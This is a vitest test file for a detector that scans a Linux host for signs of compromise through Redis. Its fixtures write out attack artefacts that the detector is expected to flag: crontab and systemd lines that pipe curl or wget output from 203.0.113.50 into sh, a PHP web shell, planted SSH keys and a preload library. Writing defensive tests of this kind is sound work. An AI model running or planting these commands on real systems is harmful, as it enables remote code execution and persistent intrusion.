import { chmodSync, chownSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { HostSign } from '../../model/host.ts';
import { hostSigns } from './host-signs.ts';

const dump = (inside: string): Buffer =>
  Buffer.concat([
    Buffer.from('REDIS0009\u00fa\tredis-ver\u00057.0.15', 'latin1'),
    Buffer.from(`\u0000\u0007backup1@\n\n${inside}\n\n`),
    Buffer.from([0xff]),
  ]);
const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)]);

let root = '';
const put = (path: string, text: string | Buffer): void => {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), text);
};
/** A process of a made-up /proc. */
const run = (pid: number, name: string, exe: string, parent = 1, uid = 999): void => {
  put(
    `proc/${pid}/status`,
    `Name:\t${name}\nPPid:\t${parent}\nUid:\t${uid}\t${uid}\t${uid}\t${uid}\nVmSize:\t1 kB\nNSpid:\t${pid}\n`,
  );
  put(`proc/${pid}/cmdline`, `${name}\0--requirepass\0canary\0`);
  symlinkSync(exe, join(root, `proc/${pid}/exe`));
};
const look = async (): Promise<readonly HostSign[]> => {
  const fact = await hostSigns({ dir: '/var/lib/redis', dbfilename: 'dump.rdb', pid: 100 }, root);
  if (!fact.known) throw new Error(fact.detail);
  return fact.value;
};
const kinds = async (): Promise<readonly string[]> =>
  (await look()).map(({ kind, path }) => `${kind} ${path}`);

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'keyward-signs-'));
  put(
    'etc/passwd',
    'root:x:0:0::/root:/bin/sh\nredis:x:999:999::/var/lib/redis:/bin/false\njoe:x:1000:1000::/home/joe:/bin/sh\n',
  );
  run(100, 'redis-server', '/usr/bin/redis-server');
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

describe('an honest host', () => {
  it('has no signs', async () => {
    put('etc/crontab', '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n');
    put('etc/cron.d/certbot', '0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew\n');
    put('root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3Nza admin@example.com\n');
    put('etc/systemd/system/app.service', '[Service]\nExecStart=/opt/app --url https://example.com\n');
    put('var/www/html/index.php', '<?php echo "REDIS0009";\n');
    put('var/lib/redis/dump.rdb', dump('x'));
    put('var/lib/redis/redisbloom.so', elf);
    put('tmp/libnetty_tcnative.so', elf);
    put('etc/ld.so.preload', '# nothing\n/usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so\n');
    run(200, 'bash', '/usr/bin/bash', 1, 1000);
    run(201, 'app', '/tmp/go-build1/app (deleted)', 200, 1000);
    expect(await look()).toEqual([]);
  });
});

describe('programs below a server that mean nothing', () => {
  it('orphans that the first process of a container inherits', async () => {
    put(
      'proc/100/status',
      'Name:\tredis-server\nPPid:\t1\nUid:\t999\t999\t999\t999\nVmSize:\t1 kB\nNSpid:\t100\t1\n',
    );
    run(101, 'sh', '/bin/sh', 100);
    expect(await look()).toEqual([]);
  });

  it('the scripts of Sentinel', async () => {
    put('proc/100/cmdline', 'redis-sentinel *:26379 [sentinel]\0');
    run(101, 'sh', '/bin/sh', 100);
    expect(await look()).toEqual([]);
  });

  it('the child that saves the data, and shells of others', async () => {
    run(101, 'redis-server', '/usr/bin/redis-server', 100);
    run(102, 'sh', '/bin/sh', 1);
    expect(await look()).toEqual([]);
  });
});

describe('a host that somebody came into through Redis', () => {
  it('has crontabs that are dumps, or that fetch and run something', async () => {
    put('var/spool/cron/crontabs/root', dump('*/5 * * * * curl -fsSL http://203.0.113.50/x.sh | sh'));
    put('etc/cron.d/zzh', dump(''));
    put('etc/crontab', '*/2 * * * * root cd1 -fsSL http://203.0.113.50/b.sh | sh\n');
    expect((await kinds()).toSorted()).toEqual([
      'cron /etc/cron.d/zzh',
      'cron /etc/crontab',
      'cron /var/spool/cron/crontabs/root',
      'cron /var/spool/cron/crontabs/root',
    ]);
  });

  it('has keys that open a login', async () => {
    put('root/.ssh/authorized_keys', dump('ssh-rsa AAAA x'));
    put('home/joe/.ssh/authorized_keys', 'ssh-rsa AAAAB3 crackit\n');
    expect(await kinds()).toEqual([
      'authorized-keys /root/.ssh/authorized_keys',
      'authorized-keys /home/joe/.ssh/authorized_keys',
    ]);
  });

  it('has a library in every program, a page that is a dump, and a unit that fetches and runs', async () => {
    put('etc/ld.so.preload', '/usr/local/lib/libs.so\n');
    put('var/www/html/site/shell.php', dump('<?php system($_GET[1]);'));
    put(
      'etc/systemd/system/bot.service',
      '[Service]\nExecStart=/bin/sh -c "wget -qO- http://203.0.113.50/x | sh"\n',
    );
    expect(await kinds()).toEqual([
      'ld-so-preload /etc/ld.so.preload',
      'systemd /etc/systemd/system/bot.service',
      'web-file /var/www/html/site/shell.php',
    ]);
  });

  it('has modules that the server was sent', async () => {
    put('var/lib/redis/dump.rdb', elf);
    put('tmp/exp.so', elf);
    put('var/lib/redis/notes.so', 'no library at all');
    expect((await kinds()).toSorted()).toEqual([
      'shared-object /tmp/exp.so',
      'shared-object /var/lib/redis/dump.rdb',
    ]);
  });

  it.skipIf(process.getuid?.() !== 0)('has a library that belongs to the user of the server', async () => {
    put('var/lib/redis/a.so', elf);
    put('var/lib/redis/b.so', elf);
    put('var/lib/redis/redisbloom.so', elf);
    put('tmp/libnetty_tcnative.so', elf);
    for (const path of ['var/lib/redis/a.so', 'var/lib/redis/redisbloom.so', 'tmp/libnetty_tcnative.so'])
      chownSync(join(root, path), 999, 999);
    expect(await kinds()).toEqual(['shared-object /var/lib/redis/a.so']);
  });

  it('runs programs that the server started, malware, and files that are gone', async () => {
    run(101, 'sh', '/usr/bin/dash', 100);
    run(102, 'kinsing', '/var/tmp/kinsing (deleted)', 1, 0);
    run(103, 'x', '/dev/shm/x (deleted)', 1, 999);
    run(104, 'y', '/memfd:y (deleted)', 1, 999);
    run(105, 'runc', '/memfd:runc_cloned:/proc/self/exe (deleted)', 1, 999);
    expect(await kinds()).toEqual([
      'child-process /usr/bin/dash',
      'child-process /var/tmp/kinsing (deleted)',
      'deleted-binary /dev/shm/x (deleted)',
      'deleted-binary /memfd:y (deleted)',
    ]);
    expect(JSON.stringify(await look())).not.toContain('canary');
  });

  it('cannot make the search hang or leave its root', async () => {
    put('etc/cron.d/x', '');
    rmSync(join(root, 'etc/cron.d/x'));
    execFileSync('mkfifo', [join(root, 'etc/cron.d/x')]);
    symlinkSync('/dev/zero', join(root, 'etc/crontab'));
    symlinkSync('loop', join(root, 'etc/cron.d/loop'));
    put('etc/cron.d/y', Buffer.alloc(3_000_000, 'a'));
    expect(await look()).toEqual([
      { kind: 'unread', path: '/etc/cron.d/loop (ELOOP)', seen: 'could not be read' },
    ]);
  });

  it.skipIf(process.getuid?.() === 0)('says which places it could not read', async () => {
    put('var/spool/cron/root', 'x');
    chmodSync(join(root, 'var/spool/cron'), 0);
    expect(await hostSigns({}, root)).toMatchObject({
      known: true,
      source: expect.stringContaining('not read: /var/spool/cron'),
    });
    chmodSync(join(root, 'var/spool/cron'), 0o755);
  });
});
